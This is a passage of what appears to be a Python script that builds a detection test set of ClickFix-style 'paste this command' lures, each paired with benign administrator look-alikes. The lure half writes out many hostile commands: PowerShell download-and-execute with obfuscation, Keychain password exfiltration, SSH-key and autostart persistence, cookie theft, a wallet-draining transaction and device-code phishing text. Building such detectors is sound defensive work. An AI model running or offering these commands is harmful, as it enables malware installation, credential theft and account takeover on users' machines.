        'powershell -c "[ScriptBlock]::Create((New-Object Net.WebClient).DownloadString('
        "'http://203.0.113.216/s')).Invoke()\"",
        "curl.exe -ks https://192.0.2.217/c.txt | cmd",
    ],
)

# DNS-over-HTTPS TXT answer run as code (a DNS-staging variant no resolver log shows).
book.lures(
    "doh-txt-staging",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell -w h -c \"$r=irm 'https://dns.google/resolve?name=k.hallowick.test&type=TXT';"
        "iex $r.Answer[0].data.Trim('\\\"')\"",
        "powershell -c \"iex ((irm 'https://cloudflare-dns.com/dns-query?name=c.lumenfold.invalid"
        "&type=TXT' -Headers @{accept='application/dns-json'}).Answer.data -replace '\\\"','')\"",
    ],
)

# A code host or paste site serves the script; the lure page is someone else's.
book.lures(
    "abused-code-host",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "irm https://gist.githubusercontent.com/kq7rand/3f9a1c/raw/v.ps1|iex"',
        'powershell -c "iex(iwr https://pastebin.com/raw/Qx71zB2m -UseB)"',
        'powershell -w h -c "irm https://raw.githubusercontent.com/vh-tools0/cf/main/check.ps1|iex"',
        'powershell -c "iwr https://cdn.discordapp.com/attachments/1/2/fix.exe -o $env:TEMP\\f.exe;'
        'saps $env:TEMP\\f.exe"',
    ],
)

# App Installer protocol and elevated relaunch.
book.lures(
    "appinstaller-and-elevation",
    "windows",
    "run_dialog",
    UPDATE,
    [
        "ms-appinstaller:?source=https://update.hallowick.test/Chrome.appinstaller",
        "powershell -c \"Start-Process powershell -Verb RunAs -ArgumentList '-w h -c irm "
        "198.51.100.218/a|iex'\"",
    ],
)

# Fake job interview "camera driver fix" (Sekoia ClickFake Interview 2025, Lazarus).
book.lures(
    "fake-interview-driver-fix",
    "any",
    "terminal",
    [
        "https://interview.talentbridge.test/assessment/cam",
        "https://hire-video.example/room/frontend-dev",
    ],
    [
        'curl -k -o "%TEMP%\\camdrv.zip" https://talentbridge.test/drivers/camdrv.zip && powershell '
        '-c "Expand-Archive -Force %TEMP%\\camdrv.zip %TEMP%\\camdrv" && wscript %TEMP%\\camdrv\\'
        "update.vbs",
        "curl -k -o /var/tmp/camfix.sh https://198.51.100.219/mac/camfix.sh && chmod +x "
        "/var/tmp/camfix.sh && nohup bash /var/tmp/camfix.sh >/dev/null 2>&1 &",
        'sudo sh -c "curl -ks https://hire-video.example/ffmpeg-fix.sh | bash"',
    ],
)

# A pasted instruction block: the steps and the command together (fake "prove you are human").
book.lures(
    "instruction-block",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "Verification steps:\n1. Press Windows + R\n2. Press CTRL + V\n3. Press Enter\n"
        'powershell -w h -c "irm https://198.51.100.220/v|iex"',
        "Pour prouver que vous n'êtes pas un robot : Win+R, Ctrl+V, Entrée\nmshta "
        "https://hallowick.test/fr.hta",
        "Bitte bestätigen Sie, dass Sie ein Mensch sind\ncmd /c curl -s https://lumenfold.invalid"
        "/de.bat -o %TEMP%\\de.bat & %TEMP%\\de.bat",
    ],
)

# ---- More macOS / Linux -------------------------------------------------------------------
book.lures(
    "mac-persistence-and-gatekeeper",
    "macos",
    "terminal",
    MAC,
    [
        "curl -s https://cobaltridge.test/com.apple.upd.plist -o ~/Library/LaunchAgents/"
        "com.apple.upd.plist && launchctl load ~/Library/LaunchAgents/com.apple.upd.plist",
        "sudo spctl --master-disable && curl -sL http://198.51.100.221/a.pkg -o /tmp/a.pkg && sudo "
        "installer -pkg /tmp/a.pkg -target /",
        "security find-generic-password -ga Chrome -w | curl -s -d @- https://elmwick.invalid/k",
    ],
)
book.lures(
    "dev-package-lure",
    "any",
    "terminal",
    ["https://verify-dev.cobaltridge.test/npm", "https://fernholt.test/quickfix"],
    [
        "npx -y https://198.51.100.222/fix.tgz",
        "pip install --quiet https://fernholt.test/pkg/verify-0.1.tar.gz && python -m verify",
        "curl -s https://cobaltridge.test/p.py | python3 -",
    ],
)
book.lures(
    "linux-desktop-persistence",
    "linux",
    "terminal",
    LINUX,
    [
        "mkdir -p ~/.config/autostart && curl -s https://fernholt.test/a -o ~/.local/bin/a && chmod "
        "+x ~/.local/bin/a && printf '[Desktop Entry]\\nExec=%s/.local/bin/a\\n' $HOME > "
        "~/.config/autostart/a.desktop",
        "curl -s http://198.51.100.223/k.pub >> ~/.ssh/authorized_keys",
        "echo 'curl -s https://fernholt.test/b | bash >/dev/null 2>&1 &' >> ~/.bashrc",
    ],
)

# ---- Spelling variety: the same acts written the ways obfuscation kits write them ----------
# (Invoke-Obfuscation / Revoke-Obfuscation catalogue; KongTuke and Lumma batches 2025.)
book.lures(
    "ps-name-hiding",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "powershell -w h -c \"i`e`x (i`wr 'https://198.51.100.230/a' -UseB)\"",
        "powershell -c \"&('i'+'ex') (irm hallowick.test/b)\"",
        "powershell -c \".($env:ComSpec[4,15,25]-join'') (irm https://lumenfold.invalid/c)\"",
        "powershell -c \"&($PSHome[4]+$PSHome[30]+'x') (irm 203.0.113.231/d)\"",
        'powershell -c "Set-Alias q Invoke-Expression; q (irm https://198.51.100.232/e)"',
        'powershell -c "irm https://hallowick.test/f | % { iex $_ }"',
        'powershell \u2013w h \u2013c "irm https://lumenfold.invalid/g|iex"',
        "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\PowerShell.exe -NoP -NonI -W Hidden -Exec "
        "Bypass -C \"IEX (IRM 'http://192.0.2.233/h')\"",
        'p^o^w^e^r^s^h^e^l^l -w h -c "irm 198.51.100.234/i|iex"',
    ],
)
book.lures(
    "ps-in-memory-assembly",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "[Reflection.Assembly]::Load((iwr https://198.51.100.235/l.bin -UseB)'
        '.Content).EntryPoint.Invoke($null,$null)"',
        "powershell -c \"$b=(New-Object Net.WebClient).DownloadData('http://hallowick.test/m');"
        "[System.Reflection.Assembly]::Load($b).GetType('A.B').GetMethod('Run').Invoke(0,$null)\"",
    ],
)
book.lures(
    "download-then-start",
    "windows",
    "run_dialog",
    CAPTCHA + UPDATE,
    [
        'cmd /c curl -Lk --output %TEMP%\\svc.exe https://198.51.100.236/svc && start "" '
        "%TEMP%\\svc.exe",
        "powershell iwr https://update.hallowick.test/u.exe -OutFile $env:APPDATA\\u.exe; & "
        "$env:APPDATA\\u.exe",
        'cmd /c start /min "" powershell -WindowStyle Hidden -c "iwr https://lumenfold.invalid/x.scr'
        ' -o $env:TEMP\\x.scr; saps $env:TEMP\\x.scr"',
        'cmd /c "echo iex(irm 203.0.113.237/p) | powershell -noprofile -"',
        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject('
        '"script:https://198.51.100.238/r.sct")',
        "mshta \"javascript:new ActiveXObject('WScript.Shell').Run('powershell -w h irm "
        "hallowick.test/q|iex',0);close()\"",
    ],
)
book.lures(
    "cmd-substring-names",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'cmd /c %ProgramData:~3,1%%ProgramData:~5,1%wershell -c "irm 198.51.100.239/s|iex"',
        'cmd /v /c "set t=llehsrewop&& for /l %i in (9,-1,0) do set r=!r!!t:~%i,1!&& !r! -c irm '
        'hallowick.test/t^|iex"',
    ],
)
book.lures(
    "url-only-verification-tail",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "https://198.51.100.240/verify.hta # I am not a robot - reCAPTCHA ID 3310",
        "\\\\verify.hallowick.test@SSL\\DavWWWRoot\\check.lnk   # Human verification",
        "http://lumenfold.invalid/captcha.msi ✅ Verified human - press Enter",
    ],
)
book.lures(
    "mac-fetch-variants",
    "macos",
    "terminal",
    MAC,
    [
        "bash <(curl -s https://cobaltridge.test/v.sh)",
        "curl -fsSL http://198.51.100.241/i | bash -s -- --silent --verify",
        f'/bin/bash -c "$(curl -fsSL $(echo {b64("https://elmwick.invalid/odssy/install")} | '
        'base64 -d))"',
        f"echo {b64('http://203.0.113.242/x')} | base64 -D | xargs curl -s | zsh",
        "curl -sLo /tmp/Fix.dmg https://cobaltridge.test/Fix.dmg && hdiutil attach -quiet /tmp/"
        "Fix.dmg && cp -R /Volumes/Fix/Fix.app /Applications/ && open /Applications/Fix.app",
        '/usr/bin/osascript -e "$(curl -s https://198.51.100.243/s)" >/dev/null 2>&1 &',
    ],
)
book.lures(
    "linux-fetch-variants",
    "linux",
    "terminal",
    LINUX,
    [
        "wget -O- http://198.51.100.244/i | bash",
        "busybox wget -qO- http://fernholt.test/b | sh",
        "curl -s https://fernholt.test/r.py | python3",
        "perl -e 'use LWP::Simple;eval(get(\"http://203.0.113.245/p\"))'",
        'sudo bash -c "$(curl -fsSL http://192.0.2.246/fix-audio.sh)"',
    ],
)

# ---- Renamed and lesser-known living-off-the-land programs (LOLBAS; KongTuke copies finger) --
book.lures(
    "renamed-lolbin",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "cmd /c copy /y %windir%\\System32\\mshta.exe %TEMP%\\svch.exe & %TEMP%\\svch.exe "
        "https://198.51.100.250/q.hta",
        'powershell -c "Copy-Item C:\\Windows\\System32\\finger.exe $env:TEMP\\f.exe; & $env:TEMP\\f.exe'
        ' s@hallowick.test | cmd"',
        'cmd /c "copy %SystemRoot%\\System32\\curl.exe %PUBLIC%\\c.exe && %PUBLIC%\\c.exe -s '
        'https://lumenfold.invalid/x -o %PUBLIC%\\x.bat && %PUBLIC%\\x.bat"',
    ],
)
book.lures(
    "dotnet-build-tools",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\msbuild.exe \\\\198.51.100.251@SSL\\d\\b.proj",
        "odbcconf /a {REGSVR \\\\hallowick.test@SSL\\s\\o.dll}",
        "cmd /c curl -s https://203.0.113.252/i.dll -o %TEMP%\\i.dll && C:\\Windows\\Microsoft.NET\\"
        "Framework\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /U %TEMP%\\i.dll",
    ],
)
book.lures(
    "ps-invoke-forms",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell /w 1 /c "iex(irm https://198.51.100.253/z)"',
        'powershell -c "& ([scriptblock]::Create($(irm https://hallowick.test/y)))"',
        'powershell -c "icm -sc ([scriptblock]::Create((irm lumenfold.invalid/x)))"',
        'powershell -c "irm http://203.0.113.254/w -o $env:TEMP\\w.bat; cmd /c $env:TEMP\\w.bat"',
        'wt powershell -w h -c "irm 198.51.100.255/v|iex"',
        'powershell -c "Start-Process -WindowStyle Hidden mshta -ArgumentList '
        "'https://hallowick.test/u.hta'\"",
    ],
)
book.lures(
    "console-more",
    "any",
    "browser_console",
    DISCORD,
    [
        "import('https://198.51.100.164/m.js')",
        "fetch('https://glimmerhall.test/p').then(r=>r.text()).then(t=>Function(t)())",
        "eval(atob('" + b64("fetch('//203.0.113.165/s').then(r=>r.text()).then(eval)") + "'))",
        "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,"
        "to:'0x9f2c4b1a7e3d5c6b8a9f0e1d2c3b4a5968778695',value:'0x8ac7230489e80000'}]})",
        "window.location='https://free-nitro.example/c?'+document.cookie",
    ],
)
book.lures(
    "consentfix-spellings",
    "any",
    "other",
    ["https://sso-check.calderon.invalid/verify", "https://teams-access.example/connect"],
    [
        "https://localhost:8443/#code=0.AXkA9vQ1bP4s2n7m8k9j0h1g2f3d4s5a6Q&state=p1q2",
        "http://[::1]:49152/?code=1.AQ4Aqz81nB7mK2pX9wL3vT6yR5uE0iO4&state=r7&session_state=ab12",
        "http://127.0.0.1/?state=Xy8Qw&code=M.C501_BL2.2.U.b3f0c1d2-e3f4-a5b6-c7d8-e9f0a1b2c3d4",
    ],
)
book.lures(
    "device-code-other-hosts",
    "any",
    "other",
    ["https://bounty-claim.glimmerhall.test/verify", "https://docs-share.example/file/8812"],
    [
        "To claim your bug bounty payout, open https://github.com/login/device and enter code "
        "7K2D-QP4M, then reply 'done'.",
        "Security review: go to aka.ms/devicelogin and enter the code FQ8Z2LKPA to keep access to "
        "the shared drive.",
    ],
)

# ================= Look-alikes: the legitimate version of each act =========================
ADMIN = "https://wiki.corp.example/it/runbooks"
book.benign(
    "admin-windows",
    "windows",
    "terminal",
    ADMIN,
    [
        "msiexec /i C:\\Installers\\7z2408-x64.msi /qn /norestart",
        "certutil -hashfile C:\\Downloads\\setup.exe SHA256",
        "nslookup -type=TXT _dmarc.contoso.example",
        "Resolve-DnsName -Name contoso.example -Type TXT",
        "net use Z: \\\\fs01.corp.example\\projects /persistent:yes",
        "bitsadmin /list /allusers /verbose",
        'schtasks /query /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag" /v',
        "Get-MpPreference | Select-Object ExclusionPath",
        "Set-Clipboard -Value (Get-Content .\\release-notes.txt -Raw)",
        "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "Expand-Archive .\\build-artifacts.zip -DestinationPath .\\out -Force",
        "wmic logicaldisk get name,freespace,size",
        "rundll32.exe printui.dll,PrintUIEntry /il",
        'powershell -NoProfile -Command "Get-Service wuauserv | Restart-Service"',
        "[Convert]::ToBase64String([IO.File]::ReadAllBytes('.\\cert.cer'))",
    ],
)
book.benign(
    "admin-windows-run",
    "windows",
    "run_dialog",
    None,
    [
        "mshta.exe",
        "\\\\fs01\\software",
        "control printers",
        "wf.msc",
    ],
)
book.benign(
    "admin-windows-more",
    "windows",
    "terminal",
    ADMIN,
    [
        "pushd \\\\fs01.corp.example\\deploy && dir /b && popd",
        "explorer \\\\fs01.corp.example\\handbook",
        "powershell -File \\\\fs01\\scripts\\Get-Inventory.ps1",
        "winget install --id Microsoft.PowerToys -e --source winget",
        "Start-Process powershell -Verb RunAs",
        "Resolve-DnsName -Name _sip._tls.corp.example -Type SRV",
        "(Invoke-RestMethod 'https://dns.google/resolve?name=corp.example&type=MX').Answer",
    ],
)
book.benign(
    "admin-shares-and-bookmarklets",
    "windows",
    "terminal",
    ADMIN,
    [
        "\\\\10.0.0.5\\deploy\\agent.msi /qn",
        "\\\\192.168.1.20\\share\\setup.exe /S",
        "\\\\fs01\\software\\7zip\\7z2408-x64.exe /S",
        "\\\\172.20.4.9\\tools\\sysinternals\\procmon.exe /AcceptEula",
    ],
)
book.benign(
    "bookmarklets-ok",
    "any",
    "other",
    "https://bookmarklets.example.org/collection",
    [
        "javascript:(function(){var s=document.createElement('script');s.src='https://cdn.jsdelivr"
        ".net/npm/eruda';document.body.append(s);s.onload=function(){eruda.init()}})()",
        "javascript:window.location='https://web.archive.org/web/*/'+location.href",
        "javascript:alert(document.cookie)",
        "javascript:(function(){document.body.contentEditable='true';document.designMode='on'})()",
        "javascript:void(localStorage.clear())",
    ],
)
book.benign(
    "device-code-awareness",
    "any",
    "other",
    "https://intranet.corp.example/security/awareness",
    [
        "Scammers promise a bounty payout if you enter a code at github.com/login/device: never "
        "enter a code someone sends you.",
        "gh auth login\n! First copy your one-time code: 3D9A-77F1\nPress Enter to open "
        "github.com in your browser...",
    ],
)
book.benign(
    "developer-more",
    "any",
    "terminal",
    "https://docs.example.com/dev/setup",
    [
        "pip install --upgrade pip setuptools wheel",
        "npx create-vite@latest my-app -- --template react-ts",
        "launchctl list | grep -i docker",
        'ssh-keygen -t ed25519 -C "me@example.com" && cat ~/.ssh/id_ed25519.pub',
        "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
    ],
)
book.benign(
    "developer-macos",
    "macos",
    "terminal",
    "https://docs.example.com/macos/setup",
    [
        'osascript -e \'display notification "Build finished" with title "CI"\'',
        "echo 'aGVsbG8gd29ybGQK' | base64 -D",
        "xattr -l ~/Downloads/report.pdf",
        "defaults write com.apple.finder AppleShowAllFiles -bool true && killall Finder",
        "dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ],
)
book.benign(
    "homebrew-own-page",
    "macos",
    "terminal",
    "https://brew.sh/",
    [
        'NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL '
        'https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)" && brew doctor'
    ],
)
book.benign(
    "developer-linux",
    "linux",
    "terminal",
    "https://docs.example.com/linux/ops",
    [
        "crontab -l",
        "curl -fsSL https://api.github.com/repos/cli/cli/releases/latest | jq -r .tag_name",
        "wget https://dl.example.com/tools/tool-1.2.3.tar.gz && tar xzf tool-1.2.3.tar.gz",
        "nc -zv db01.internal 5432",
        "python3 -c 'import sys; print(sys.version)'",
        "sudo systemctl restart nginx && journalctl -u nginx -n 50",
    ],
)
book.benign(
    "developer-console",
    "any",
    "browser_console",
    None,
    [
        "document.querySelectorAll('a[href^=\"http\"]').length",
        "fetch('/api/health').then(r => r.json()).then(console.log)",
        "localStorage.clear()",
        "console.table(performance.getEntriesByType('resource').map(e => [e.name, e.duration]))",
    ],
)
book.benign(
    "oauth-dev-notes",
    "any",
    "terminal",
    "https://docs.example.com/oauth/local-testing",
    [
        "http://localhost:3000/",
        "npm run dev -- --port 5173",
        "curl -s http://127.0.0.1:8080/healthz",
    ],
)
book.benign(
    "scam-awareness",
    "any",
    "other",
    "https://intranet.corp.example/security/awareness",
    [
        "If a web page asks you to press Win+R and paste something to prove you are human, close "
        "it and report it to the service desk: real CAPTCHAs never ask that.",
        "Never call a phone number from an unexpected renewal or order email; look the company up "
        "yourself.",
    ],
)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("tech19.jsonl"), CASES)
